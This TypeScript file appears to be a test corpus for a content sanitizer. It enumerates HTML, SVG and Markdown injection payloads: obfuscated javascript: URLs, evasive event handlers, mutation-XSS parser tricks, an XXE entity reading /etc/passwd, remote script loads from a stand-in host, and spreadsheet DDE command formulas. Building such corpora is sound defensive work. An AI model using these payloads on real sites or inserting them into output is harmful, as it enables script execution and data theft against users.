/**
 * Snippets that would run, load or send something where they were shown as they are: every way in
 * (an element, a handler, an address, a style) times the ways in which it is hidden.
 */

export type SnippetKind = 'HTML' | 'SVG' | 'Markdown';

export interface Snippet {
  kind: SnippetKind;
  text: string;
}

/** The host that nothing may ask. */
export const OUTSIDE = 'outside.example';
const HARM = 'window.harmed=1';

/** Addresses that run, or that hide one. */
const ADDRESSES = [
  `javascript:${HARM}`,
  `JaVaScRiPt:${HARM}`,
  `java\tscript:${HARM}`,
  `java\nscript:${HARM}`,
  `java&#10;script:${HARM}`,
  `&#106;avascript:${HARM}`,
  `&#x6A;&#x61;vascript&colon;${HARM}`,
  `\u0001javascript:${HARM}`,
  `  javascript:${HARM}`,
  `javascript&Tab;:${HARM}`,
  `javascript://${OUTSIDE}/%0a${HARM}`,
  `vbscript:${HARM}`,
  `livescript:${HARM}`,
  `data:text/html,<script>${HARM}</script>`,
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFybWVkPTE8L3NjcmlwdD4=',
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${HARM}'/>`,
  `data:application/xhtml+xml,<x xmlns="http://www.w3.org/1999/xhtml"/>`,
  'file:///etc/passwd',
  `blob:https://${OUTSIDE}/1`,
  `view-source:javascript:${HARM}`,
  `feed:javascript:${HARM}`,
  `jar:https://${OUTSIDE}!/x.html`,
  'ms-msdt:/id x',
  'search-ms:query=x',
  `\\\\${OUTSIDE}\\share\\x`,
];

const quoted = (text: string): string => text.replaceAll('"', '&quot;');
const html = (text: string): Snippet => ({ kind: 'HTML', text });
const svg = (inner: string, more = ''): Snippet => ({
  kind: 'SVG',
  text: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" ${more}>${inner}</svg>`,
});
const markdown = (text: string): Snippet => ({ kind: 'Markdown', text });

const HANDLERS = [
  ...['click', 'error', 'load', 'focus', 'mouseover', 'pointerdown', 'toggle', 'begin', 'end'],
  ...['animationstart', 'transitionend', 'beforeinput', 'paste', 'copy', 'scroll', 'wheel'],
  ...['hashchange', 'message', 'popstate', 'beforeunload', 'cuechange', 'securitypolicyviolation'],
];
const ELEMENTS = [
  'p',
  'img src=x',
  'svg',
  'body',
  'details open',
  'video src=x',
  'input autofocus',
];
/** Ways of writing a handler that simple filters do not see. */
const HANDLER_FORMS = [
  (name: string) => `<p on${name}="${HARM}">`,
  (name: string) => `<p/on${name}=${HARM}>`,
  (name: string) => `<p\non${name}\n=\n'${HARM}'>`,
  (name: string) => `<p ON${name.toUpperCase()}="${HARM}">`,
];

function htmlSnippets(): Snippet[] {
  return [
    ...[
      `<script>${HARM}</script>`,
      `<SCRIPT SRC=https://${OUTSIDE}/x.js></SCRIPT>`,
      `<scr<script>ipt>${HARM}</script>`,
      `<script\n>${HARM}</script\n>`,
      `<script type=module>import "https://${OUTSIDE}/x.js"</script>`,
      `<noscript><p title="</noscript><img src=x onerror=${HARM}>"></noscript>`,
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HARM}&gt;">`,
      `<svg></p><style><a id="</style><img src=1 onerror=${HARM}>">`,
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HARM}>`,
      `<template><script>${HARM}</script></template>`,
      `<xmp><img src=x onerror=${HARM}></xmp>`,
      `<plaintext><script>${HARM}</script>`,
      `<textarea><script>${HARM}</script></textarea>`,
      `<title><script>${HARM}</script></title>`,
      `<!--[if gte IE 4]><script>${HARM}</script><![endif]-->`,
      `<![CDATA[<script>${HARM}</script>]]>`,
      `<?xml-stylesheet href="https://${OUTSIDE}/x.xsl"?>`,
      `<base href="https://${OUTSIDE}/">`,
      `<meta http-equiv=refresh content="0;url=https://${OUTSIDE}">`,
      `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
      `<link rel=stylesheet href="https://${OUTSIDE}/x.css">`,
      `<link rel=import href="https://${OUTSIDE}/x.html">`,
      `<link rel=prefetch href="https://${OUTSIDE}/x">`,
      `<style>@import "https://${OUTSIDE}/x.css"; p{background:url(https://${OUTSIDE}/x)}</style>`,
      `<iframe src="https://${OUTSIDE}"></iframe>`,
      `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
      `<frameset><frame src="https://${OUTSIDE}"></frameset>`,
      `<object data="https://${OUTSIDE}/x.swf"></object>`,
      `<embed src="https://${OUTSIDE}/x.pdf">`,
      `<applet code="x" archive="https://${OUTSIDE}/x.jar"></applet>`,
      `<portal src="https://${OUTSIDE}"></portal>`,
      `<webview src="https://${OUTSIDE}"></webview>`,
      `<img src="https://${OUTSIDE}/pixel.png">`,
      `<img srcset="https://${OUTSIDE}/a 1x, https://${OUTSIDE}/b 2x">`,
      `<picture><source srcset="https://${OUTSIDE}/a"><img src=x></picture>`,
      `<video poster="https://${OUTSIDE}/x"><source src="https://${OUTSIDE}/x.mp4"></video>`,
      `<audio src="https://${OUTSIDE}/x.mp3" autoplay></audio>`,
      `<track src="https://${OUTSIDE}/x.vtt">`,
      `<input type=image src="https://${OUTSIDE}/x">`,
      `<table background="https://${OUTSIDE}/x"><tr><td background="https://${OUTSIDE}/y">t</td></tr></table>`,
      `<form action="https://${OUTSIDE}"><input name=q><button>Go</button></form>`,
      `<button formaction="javascript:${HARM}">Go</button>`,
      `<isindex action="javascript:${HARM}">`,
      `<a href="https://example.org" ping="https://${OUTSIDE}">p</a>`,
      `<a href="https://example.org" target=_blank>o</a>`,
      `<a href="https://example.org" download="x.exe">d</a>`,
      `<p is="x-harm" slot="y" contenteditable>e</p>`,
      `<p id="__proto__" name="constructor">n</p>`,
      `<img name="getElementById"><form id="documentElement"><input name="attributes"></form>`,
      `<div data-lexical-editor="true" class="js-run" v-html="x" ng-bind-html="x">f</div>`,
      `<p>{{constructor.constructor('${HARM}')()}}</p>`,
      `<dialog open>o</dialog><div popover onbeforetoggle=${HARM}>p</div>`,
    ].map(html),
    ...[
      `background:url(https://${OUTSIDE}/x)`,
      `background-image:image-set("https://${OUTSIDE}/x" 1x)`,
      `list-style:url(https://${OUTSIDE}/x)`,
      `width:expression(${HARM})`,
      `behavior:url(https://${OUTSIDE}/x.htc)`,
      `-moz-binding:url(https://${OUTSIDE}/x#y)`,
      `content:url(https://${OUTSIDE}/x)`,
      `cursor:url(https://${OUTSIDE}/x),auto`,
      `background:\\75rl(https://${OUTSIDE}/x)`,
      `background:u/**/rl(https://${OUTSIDE}/x)`,
      `position:fixed;inset:0;z-index:9999`,
      `filter:url(https://${OUTSIDE}/x#y)`,
    ].map((style) => html(`<p style='${style}'>styled</p>`)),
    ...ADDRESSES.flatMap((address) =>
      [
        `<a href="${quoted(address)}">a link</a>`,
        `<a href='${address.replaceAll("'", '&#39;')}'><b>bold</b></a>`,
        `<img src="${quoted(address)}" alt="a picture">`,
        `<iframe src="${quoted(address)}"></iframe>`,
        `<area href="${quoted(address)}"><blockquote cite="${quoted(address)}">c</blockquote>`,
      ].map(html),
    ),
    ...ELEMENTS.flatMap((element) =>
      HANDLERS.slice(0, 8).map((name) => html(`<${element} on${name}="${HARM}">words</p>`)),
    ),
    ...HANDLERS.flatMap((name) => HANDLER_FORMS.map((form) => html(`${form(name)}words</p>`))),
  ];
}

function svgSnippets(): Snippet[] {
  return [
    svg(`<script>${HARM}</script>`),
    svg(`<script href="https://${OUTSIDE}/x.js"/>`),
    svg(`<script xlink:href="data:text/javascript,${HARM}"/>`),
    svg('<rect width="1"/>', `onload="${HARM}"`),
    svg(
      `<style>@import url(https://${OUTSIDE}/x.css);rect{fill:url(https://${OUTSIDE}/x#y)}</style>`,
    ),
    svg(
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://${OUTSIDE}"/></foreignObject>`,
    ),
    svg(
      `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${HARM}"/></foreignObject>`,
    ),
    svg(`<image href="https://${OUTSIDE}/x.png"/>`),
    svg(`<image xlink:href="https://${OUTSIDE}/x.png"/>`),
    svg(`<use href="https://${OUTSIDE}/x.svg#y"/>`),
    svg(`<use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/>`),
    svg(`<feImage href="https://${OUTSIDE}/x.png"/>`),
    svg(`<set attributeName="href" to="javascript:${HARM}"/>`),
    svg(`<a><animate attributeName="href" values="javascript:${HARM}"/><text>x</text></a>`),
    svg(`<animate onbegin="${HARM}" attributeName="x" dur="1s"/>`),
    svg(`<handler type="application/ecmascript">${HARM}</handler>`),
    svg(`<rect fill="url(https://${OUTSIDE}/x#y)"/>`),
    svg(`<rect style="fill:url(https://${OUTSIDE}/x#y)"/>`),
    svg(`<text><tspan onclick="${HARM}">x</tspan></text>`),
    svg(`<iframe src="https://${OUTSIDE}"/>`),
    svg(`<metadata><a xmlns="x" href="javascript:${HARM}"/></metadata>`),
    {
      kind: 'SVG',
      text: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
    },
    {
      kind: 'SVG',
      text: `<?xml-stylesheet href="https://${OUTSIDE}/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
    },
    ...ADDRESSES.flatMap((address) => [
      svg(`<a href="${quoted(address).replaceAll('<', '&lt;')}"><text>x</text></a>`),
      svg(`<a xlink:href="${quoted(address).replaceAll('<', '&lt;')}"><text>x</text></a>`),
    ]),
    ...HANDLERS.map((name) => svg(`<rect width="1" on${name}="${HARM}"/>`)),
  ];
}

function markdownSnippets(): Snippet[] {
  return [
    ...ADDRESSES.flatMap((address) =>
      [
        `[a link](<${address.replaceAll('\n', '&#10;').replace(/[<>]/g, '')}>)`,
        `[a link][r]\n\n[r]: ${address.replace(/[\s<>]/g, '')}`,
        `![a picture](${address.replace(/[\s<>()]/g, '')})`,
        `<${address.replace(/[\s<>]/g, '')}>`,
      ].map(markdown),
    ),
    ...[
      `<script>${HARM}</script>`,
      `text <img src=x onerror=${HARM}> text`,
      `<div onclick="${HARM}">\n\n**bold**\n\n</div>`,
      `\`\`\`html\n<script>${HARM}</script>\n\`\`\``,
      `| a |\n|---|\n| <script>${HARM}</script> |`,
      `# <img src=x onerror=${HARM}>`,
      `[x](https://example.org "</a><script>${HARM}</script>")`,
      `![x" onerror="${HARM}](https://${OUTSIDE}/x)`,
      `![x](https://${OUTSIDE}/x "\\" onerror=\\"${HARM}")`,
      `\`</code><script>${HARM}</script>\``,
      `<!-- --><script>${HARM}</script> -->`,
      `[^1]\n\n[^1]: <script>${HARM}</script>`,
      `- [ ] <iframe src="https://${OUTSIDE}"></iframe>`,
      `> <style>@import "https://${OUTSIDE}/x.css"</style>`,
      `=cmd|' /C calc'!A0`,
      `@SUM(1+1)*cmd|' /C calc'!A0`,
    ].map(markdown),
  ];
}

export const SNIPPETS: readonly Snippet[] = [
  ...htmlSnippets(),
  ...svgSnippets(),
  ...markdownSnippets(),
];
